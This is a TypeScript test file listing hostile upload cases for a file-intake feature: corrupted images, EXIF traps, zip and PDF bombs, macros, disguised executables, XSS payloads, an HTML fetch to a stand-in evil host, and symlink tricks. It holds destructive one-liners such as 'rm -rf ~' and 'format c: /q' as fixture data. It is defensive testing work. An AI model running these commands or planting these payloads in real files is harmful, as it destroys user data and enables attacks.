import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { expect } from 'vitest';
import { writeLedgerXlsx, numberRows, worksheetXml, writeRawXlsx } from '../helpers/xlsx';
import { rawEntriesOf, writeRawZip, writeZip } from '../helpers/zips';
import type { HostileCase } from './case';
import { zipBomb } from './archives';
import { cut, elf, fixture, fixtureBytes, noisy, pe, put, putRawName } from './bytes';
import { filesOf, gbk } from './catalogs';
import {
  billionLaughs,
  docxEdited,
  documentOfSpaces,
  minimalPdf,
  pdfBrokenXref,
  pdfDeepArrays,
  pdfOfPages,
  pdfPageTreeCycle,
  pdfStreamBomb,
  pdfWithAttachment,
  pdfWithJavaScript,
  withDocument,
  withMacros,
} from './documents';
import {
  app1,
  badCrc,
  blackPng,
  bmpClaiming,
  cameraGif,
  cameraJpeg,
  cameraPng,
  cameraWebp,
  exifHugeCount,
  exifLoop,
  exifWildOffsets,
  heifClaiming,
  heifFtypOnly,
  jpegDated,
  phoneHeif,
  tiff,
  tiffClaiming,
  webpClaiming,
  withSegments,
  zerosZlib,
} from './images';

type Case = Omit<HostileCase, 'group'>;
const DOC = { entry: 'attach', criterion: '1.1.1' } as const;
const PHOTO = { entry: 'attach' } as const;
const one = (name: string, bytes: () => Buffer | Promise<Buffer>) => async (dir: string) => [
  put(dir, name, await bytes()),
];
const DAMAGED = /图片已损坏/u;
/** A photo of its own (the camera photo at its own size): not a duplicate of any other case's. */
const photoNo = (n: number): Promise<Buffer> =>
  sharp(cameraJpeg())
    .resize(300 + n)
    .jpeg()
    .toBuffer();
const TOO_MANY_PIXELS = /像素过大/u;

/** Photos, EXIF, image bombs: attached to 3.1.2 (实景图片). */
const images: Case[] = [
  {
    name: 'JPEG cut to its first 200 bytes',
    category: 'image',
    make: one('活动.jpg', () => cameraJpeg().subarray(0, 200)),
    run: PHOTO,
    expect: { outcome: 'refused', message: DAMAGED },
  },
  {
    name: 'JPEG cut at 40% (an interrupted copy)',
    category: 'image',
    make: one('传输中断.jpg', () => cut(cameraJpeg(), 0.4)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { damaged: true, width: 640 } },
  },
  {
    name: 'JPEG with noise in its entropy data',
    category: 'image',
    make: one('噪声.jpg', () => noisy(cameraJpeg(), 0.3, 0.9, 400)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { damaged: true } },
  },
  {
    name: 'JPEG: the SOI marker and nothing else',
    category: 'image',
    make: one('空壳.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(64)])),
    run: PHOTO,
    expect: { outcome: 'refused', message: DAMAGED },
  },
  {
    name: 'the corpus corrupted.jpg, through the CLI',
    category: 'image',
    cli: true,
    make: () => [fixture('photos', 'corrupted.jpg')],
    run: PHOTO,
    expect: { outcome: 'refused', message: /图片已损坏，无法解码/u },
  },
  {
    name: 'PNG cut in half',
    category: 'image',
    make: one('半张.png', async () => cut(await cameraPng(), 0.5)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { damaged: true, mime: 'image/png' } },
  },
  {
    name: 'PNG with a wrong header checksum',
    category: 'image',
    make: one('校验错.png', async () => badCrc(await cameraPng())),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { damaged: true } },
  },
  {
    name: 'PNG without image data',
    category: 'image',
    make: one('无数据.png', () => blackPng(640, 480, null)),
    run: PHOTO,
    expect: { outcome: 'refused', message: DAMAGED },
  },
  {
    name: 'WebP cut in half',
    category: 'image',
    make: one('半张.webp', async () => cut(await cameraWebp(), 0.5)),
    run: PHOTO,
    expect: { outcome: 'refused', message: DAMAGED },
  },
  {
    name: 'WebP header claiming 16383×16383 over noise',
    category: 'image',
    make: one('巨图.webp', () => webpClaiming(16383, 16383)),
    run: PHOTO,
    expect: { outcome: 'refused', message: /图片已损坏|像素过大/u },
  },
  {
    name: 'GIF cut in half',
    category: 'image',
    make: one('半张.gif', async () => cut(await cameraGif(), 0.5)),
    run: PHOTO,
    expect: { outcome: 'refused', message: DAMAGED },
  },
  {
    name: 'BMP header claiming 50000×50000',
    category: 'bomb',
    make: one('巨图.bmp', () => bmpClaiming(50_000, 50_000)),
    run: PHOTO,
    expect: { outcome: 'refused', message: /图片已损坏|像素过大/u },
  },
  {
    name: 'TIFF header claiming 100000×100000',
    category: 'bomb',
    make: one('巨图.tif', () => tiffClaiming(100_000, 100_000)),
    run: PHOTO,
    expect: { outcome: 'refused', message: /图片已损坏|像素过大/u },
  },
  {
    name: 'PNG of 16000×16000 black pixels (256 MP from 250 KB)',
    category: 'bomb',
    make: one('全黑.png', () => blackPng(16_000, 16_000)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { width: 16_000, height: 16_000 } },
  },
  {
    name: 'PNG of 16384×16384 black pixels (over 268 MP), through the CLI',
    category: 'bomb',
    cli: true,
    make: one('超大.png', () => blackPng(16_384, 16_384)),
    run: PHOTO,
    expect: { outcome: 'refused', message: TOO_MANY_PIXELS },
  },
  {
    name: 'HEIC cut in half, through the CLI (libheif must not print on stdout)',
    category: 'image',
    cli: true,
    make: one('半张.heic', () => cut(phoneHeif(), 0.5)),
    run: PHOTO,
    expect: { outcome: 'refused', message: /HEIC 图片无法解码/u },
  },
  {
    name: 'HEIC: its ftyp box and nothing else',
    category: 'image',
    make: one('空壳.heic', heifFtypOnly),
    run: PHOTO,
    expect: { outcome: 'refused', message: /HEIC 图片无法解码/u },
  },
  {
    name: 'HEIC claiming 60000×60000',
    category: 'bomb',
    make: one('巨图.heic', () => heifClaiming(60_000, 60_000)),
    run: PHOTO,
    expect: { outcome: 'refused', message: TOO_MANY_PIXELS },
  },
  {
    name: 'HEIC with noise in its image data',
    category: 'image',
    make: one('噪声.heic', () => noisy(phoneHeif(), 0.6, 1, 300)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { mime: 'image/jpeg' } },
  },
  {
    name: 'JPEG named .heic',
    category: 'image',
    make: one('改名.heic', cameraJpeg),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { mime: 'image/jpeg' } },
  },
];

/** A date that is no date leaves the event date empty and the month a real one. */
const dated: Case['check'] = (o) => {
  expect(o.added[0]!.eventDate).toBeNull();
  expect(o.added[0]!.month).toMatch(/^\d{4}-(0[1-9]|1[0-2])$/u);
};

const exif: Case[] = [
  {
    name: 'EXIF date 9999:99:99 99:99:99',
    category: 'exif',
    make: one('伪造日期.jpg', () => jpegDated('9999:99:99 99:99:99')),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { exifDate: null } },
    check: dated,
  },
  {
    name: 'EXIF date 0000:00:00 (a camera whose clock was never set)',
    category: 'exif',
    make: one('未设时钟.jpg', () => jpegDated('0000:00:00 00:00:00')),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { exifDate: null } },
    check: dated,
  },
  {
    name: 'EXIF date 2026:02:30 25:61:61',
    category: 'exif',
    make: one('二月三十.jpg', () => jpegDated('2026:02:30 25:61:61')),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { exifDate: null } },
    check: dated,
  },
  {
    name: 'EXIF whose IFD points back to itself',
    category: 'exif',
    make: one('环.jpg', () => withSegments(cameraJpeg(), [app1(exifLoop())])),
    run: PHOTO,
    expect: { outcome: 'accepted' },
  },
  {
    name: 'EXIF IFD claiming 65,535 entries',
    category: 'exif',
    make: one('条目.jpg', () => withSegments(cameraJpeg(), [app1(exifHugeCount())])),
    run: PHOTO,
    expect: { outcome: 'accepted' },
  },
  {
    name: 'EXIF offsets past the end and orientation 200',
    category: 'exif',
    make: one('偏移.jpg', () => withSegments(cameraJpeg(), [app1(exifWildOffsets())])),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { width: 640 } },
  },
  {
    name: 'EXIF camera name of 60 KB',
    category: 'exif',
    make: one('长名.jpg', () =>
      withSegments(cameraJpeg(), [app1(Buffer.concat([tiff([[0x010f, 2, 60_000, 26]]), Buffer.alloc(60_000, 0x41)]))]),
    ),
    run: PHOTO,
    expect: { outcome: 'accepted' },
  },
  {
    name: '200 EXIF segments (13 MB), through the CLI',
    category: 'exif',
    cli: true,
    make: one('多段.jpg', () =>
      withSegments(
        cameraJpeg(),
        Array.from({ length: 200 }, () => app1(Buffer.alloc(65_000, 0x41))),
      ),
    ),
    run: PHOTO,
    expect: { outcome: 'accepted' },
  },
];

/** A workbook whose sheet part inflates from ~100 KB to 100 MB (the central directory says so). */
async function workbookBomb(dir: string): Promise<string[]> {
  const path = join(dir, '统计表.xlsx');
  await writeLedgerXlsx(path);
  const zeros = Buffer.alloc(100 * 2 ** 20);
  const entries = (await rawEntriesOf(path)).map((e) =>
    e.name === 'xl/worksheets/sheet2.xml'
      ? { ...e, data: zeros, method: 8 as const, body: zerosZlib(zeros.length).subarray(2, -4) }
      : e,
  );
  writeRawZip(path, entries);
  return [path];
}

const docs: Case[] = [
  {
    name: 'PDF cut in half',
    category: 'pdf',
    make: one('半份.pdf', () => cut(minimalPdf(), 0.5)),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: false } },
  },
  {
    name: 'PDF: a header and nothing else',
    category: 'pdf',
    make: one('空壳.pdf', () => Buffer.from('%PDF-1.7\n')),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: false } },
  },
  {
    name: 'password-protected PDF (corpus)',
    category: 'pdf',
    make: () => [fixture('pdfs', 'libreoffice-writer-password.pdf')],
    run: DOC,
    expect: { outcome: 'accepted', facts: { encrypted: true } },
  },
  {
    name: 'PDF running JavaScript when opened',
    category: 'pdf',
    make: one('脚本.pdf', pdfWithJavaScript),
    run: DOC,
    expect: { outcome: 'accepted', facts: { hasJavaScript: true } },
  },
  {
    name: 'PDF carrying an .exe attachment, through the CLI',
    category: 'pdf',
    cli: true,
    make: one('附件.pdf', pdfWithAttachment),
    run: DOC,
    expect: { outcome: 'accepted', facts: { hasEmbeddedFiles: true } },
  },
  {
    name: 'PDF of 10,000 pages',
    category: 'pdf',
    make: one('万页.pdf', () => pdfOfPages(10_000)),
    run: DOC,
    expect: { outcome: 'accepted', facts: { pages: 10_000, readable: true } },
  },
  {
    name: 'PDF with a broken xref',
    category: 'pdf',
    make: one('交叉表.pdf', pdfBrokenXref),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: true, pages: 1 } },
  },
  {
    name: 'PDF whose page tree contains itself',
    category: 'pdf',
    make: one('循环.pdf', pdfPageTreeCycle),
    run: DOC,
    expect: { outcome: 'accepted' },
  },
  {
    name: 'PDF of 100,000 nested arrays',
    category: 'pdf',
    make: one('嵌套.pdf', pdfDeepArrays),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: false } },
  },
  {
    name: 'PDF whose page content inflates to 1 GB',
    category: 'bomb',
    make: one('炸弹.pdf', () => pdfStreamBomb(1024)),
    run: DOC,
    expect: { outcome: 'accepted', facts: { pages: 4, hasText: false } },
  },
  {
    name: 'Word file cut in half',
    category: 'office',
    make: one('半份.docx', () => cut(fixtureBytes('office', 'doc-coreprops.docx'), 0.5)),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: false } },
  },
  {
    name: 'Word file with broken XML',
    category: 'office',
    make: (d) => docxEdited(join(d, '坏.docx'), (i) => withDocument(i, '<w:document><<<')).then((p) => [p]),
    run: DOC,
    expect: { outcome: 'accepted', facts: { readable: false } },
  },
  {
    name: 'Word file declaring the billion laughs',
    category: 'office',
    make: (d) => docxEdited(join(d, '笑.docx'), (i) => withDocument(i, billionLaughs())).then((p) => [p]),
    run: DOC,
    expect: { outcome: 'accepted' },
  },
  {
    name: 'Word file whose document.xml inflates to 80 MB',
    category: 'bomb',
    make: (d) => docxEdited(join(d, '炸弹.docx'), (i) => withDocument(i, documentOfSpaces(80))).then((p) => [p]),
    run: DOC,
    expect: { outcome: 'refused', message: /压缩炸弹/u },
  },
  {
    name: 'workbook whose sheet inflates to 100 MB',
    category: 'bomb',
    make: workbookBomb,
    run: DOC,
    expect: { outcome: 'refused', message: /压缩炸弹/u },
  },
  {
    name: 'zip bomb (200 MB of zeros) as a material',
    category: 'bomb',
    make: (d) => [zipBomb(join(d, '资料.zip'), '资料.txt', 200)],
    run: DOC,
    expect: { outcome: 'refused', message: /压缩包/u },
  },
  {
    name: 'macro-enabled Word file (.docm)',
    category: 'office',
    make: (d) => docxEdited(join(d, '方案.docm'), (i) => withMacros(i, 'word')).then((p) => [p]),
    run: DOC,
    expect: { outcome: 'refused', message: /宏/u },
  },
  {
    name: 'macro-enabled workbook named .xlsx, through the CLI',
    category: 'office',
    cli: true,
    make: async (d) => {
      const p = join(d, '统计表.xlsx');
      await writeLedgerXlsx(p);
      await docxEditedAt(p, (i) => withMacros(i, 'xl'));
      return [p];
    },
    run: DOC,
    expect: { outcome: 'refused', message: /宏/u },
  },
  {
    name: 'Word file with its parts in reverse order',
    category: 'office',
    make: (d) => docxEdited(join(d, '倒序.docx'), (i) => [...i].reverse()).then((p) => [p]),
    run: DOC,
    expect: {
      outcome: 'accepted',
      facts: { mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
    },
  },
  {
    name: 'workbook of 100,000 rows as a material',
    category: 'office',
    make: async (d) => {
      const p = join(d, '十万行.xlsx');
      await writeRawXlsx(p, { sheets: [{ name: '统计', xml: worksheetXml({ rows: numberRows(100_000, 3) }) }] });
      return [p];
    },
    run: DOC,
    expect: {
      outcome: 'accepted',
      facts: { mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
    },
  },
];

async function docxEditedAt(path: string, edit: Parameters<typeof docxEdited>[1]): Promise<void> {
  await writeZip(path, edit(await filesOf(path)));
}

const NOT_MATERIAL = /不能作为材料/u;
const scripts: Case[] = [
  {
    name: 'zero-byte .jpg',
    category: 'empty',
    make: one('空.jpg', () => Buffer.alloc(0)),
    run: PHOTO,
    expect: { outcome: 'refused', message: /空的/u },
  },
  {
    name: 'zero-byte .pdf, through the CLI',
    category: 'empty',
    cli: true,
    make: one('空.pdf', () => Buffer.alloc(0)),
    run: DOC,
    expect: { outcome: 'refused', message: /空的/u },
  },
  {
    name: 'Linux program named 活动照片.jpg',
    category: 'executable',
    make: one('活动照片.jpg', elf),
    run: PHOTO,
    expect: { outcome: 'refused', message: /该文件不是图片/u },
  },
  {
    name: 'Windows program named 通知.pdf',
    category: 'executable',
    make: one('通知.pdf', pe),
    run: DOC,
    expect: { outcome: 'refused', message: NOT_MATERIAL },
  },
  {
    name: 'Windows program named 方案.docx, through the CLI',
    category: 'executable',
    cli: true,
    make: one('方案.docx', pe),
    run: DOC,
    expect: { outcome: 'refused', message: NOT_MATERIAL },
  },
  {
    name: 'shell script named 现场照片.jpg',
    category: 'executable',
    make: one('现场照片.jpg', () => Buffer.from('#!/bin/sh\nrm -rf ~\n')),
    run: PHOTO,
    expect: { outcome: 'refused', message: /该文件不是图片/u },
  },
  {
    name: 'batch file named 通知.pdf',
    category: 'executable',
    make: one('通知.pdf', () => Buffer.from('@echo off\r\nformat c: /q\r\n')),
    run: DOC,
    expect: { outcome: 'refused', message: NOT_MATERIAL },
  },
  {
    name: 'SVG with a script',
    category: 'script',
    make: one('标志.svg', () =>
      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ),
    run: PHOTO,
    expect: { outcome: 'refused', message: /SVG/u },
  },
  {
    name: 'SVG without a declaration, named .png',
    category: 'script',
    make: one('标志.png', () => Buffer.from('<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>')),
    run: PHOTO,
    expect: { outcome: 'refused', message: /SVG/u },
  },
  {
    name: 'HTML page with a script, through the CLI',
    category: 'script',
    cli: true,
    make: one('报道.html', () =>
      Buffer.from('<!DOCTYPE html><html><body><script>fetch("http://evil.invalid")</script>报道</body></html>'),
    ),
    run: DOC,
    expect: { outcome: 'refused', message: /网页/u },
  },
  {
    name: 'XHTML with a script',
    category: 'script',
    make: one('报道.xhtml', () =>
      Buffer.from(
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>',
      ),
    ),
    run: DOC,
    expect: { outcome: 'refused', message: /网页/u },
  },
  {
    name: 'HTML named .jpg',
    category: 'script',
    make: one('截图.jpg', () => Buffer.from('<html><img src=x onerror=alert(1)></html>')),
    run: PHOTO,
    expect: { outcome: 'refused', message: /网页/u },
  },
];

/** A folder of `names` (each a copy of the camera photo, or made by `extra`), as the files a user drops. */
const folder =
  (extra: (dir: string, env: Parameters<HostileCase['make']>[1]) => void) =>
  (dir: string, env: Parameters<HostileCase['make']>[1]): string[] => {
    const d = join(dir, '拖入的文件夹');
    mkdirSync(d, { recursive: true });
    extra(d, env);
    return [d];
  };

const names: Case[] = [
  {
    name: 'GBK-encoded file name (照片.jpg from a Windows disk)',
    category: 'names',
    make: folder((d) => putRawName(d, gbk('照片.jpg'), cameraJpeg())),
    run: PHOTO,
    expect: { outcome: 'refused', message: /编码/u },
  },
  {
    name: 'case twins 照片.jpg and 照片.JPG',
    category: 'names',
    make: async (dir) => {
      const d = join(dir, '拖入的文件夹');
      put(d, '照片.jpg', await photoNo(1));
      put(d, '照片.JPG', await photoNo(2));
      return [d];
    },
    run: PHOTO,
    expect: { outcome: 'accepted' },
    check: (o) => expect(o.added.map((m) => m.fileName).sort()).toEqual(['照片.JPG', '照片.jpg']),
  },
  {
    name: 'file name with an RTL override (报告\u202egpj.exe)',
    category: 'names',
    make: one('报告\u202egpj.exe', () => photoNo(3)),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { mime: 'image/jpeg' } },
  },
  {
    name: 'file name of 255 bytes',
    category: 'names',
    make: one(`${'名'.repeat(83)}.jpg`, () => photoNo(4)),
    run: PHOTO,
    expect: { outcome: 'accepted' },
  },
  {
    name: 'link to a file outside the dropped folder',
    category: 'symlink',
    make: folder((d) => symlinkSync(fixture('photos', 'Nikon_D70.jpg'), join(d, '链接.jpg'))),
    run: PHOTO,
    expect: { outcome: 'accepted', facts: { camera: expect.stringContaining('NIKON D70') } },
  },
  {
    name: 'link loop (ln -s . 循环)',
    category: 'symlink',
    make: folder((d) => symlinkSync('.', join(d, '循环'))),
    run: PHOTO,
    expect: { outcome: 'skipped', message: /链接/u },
  },
  {
    name: 'dangling link',
    category: 'symlink',
    make: folder((d) => symlinkSync(join(d, '不存在.jpg'), join(d, '失效.jpg'))),
    run: PHOTO,
    expect: { outcome: 'refused', message: /找不到/u },
  },
  {
    name: 'link to the workspace’s database',
    category: 'symlink',
    make: folder((d, env) => symlinkSync(join(env.workspace, 'workspace.db'), join(d, '数据.jpg'))),
    run: PHOTO,
    expect: { outcome: 'refused', message: /工作区自身/u },
  },
  {
    name: 'the workspace folder itself, through the CLI',
    category: 'symlink',
    cli: true,
    make: (_d, env) => [env.workspace],
    run: PHOTO,
    expect: { outcome: 'refused', message: /工作区自身/u },
  },
  {
    name: 'a FIFO named .jpg (reading it would block)',
    category: 'symlink',
    make: folder((d) => execFileSync('mkfifo', [join(d, '管道.jpg')])),
    run: PHOTO,
    expect: { outcome: 'skipped', message: /不是普通文件/u },
  },
  {
    name: 'folders nested 40 deep',
    category: 'names',
    make: folder((d) => put(join(d, ...Array.from({ length: 40 }, (_, i) => `第${i + 1}层`)), '深.jpg', cameraJpeg())),
    run: PHOTO,
    expect: { outcome: 'skipped', message: /层级过深/u },
  },
];

export const INTAKE_CASES: Case[] = [...images, ...exif, ...docs, ...scripts, ...names];
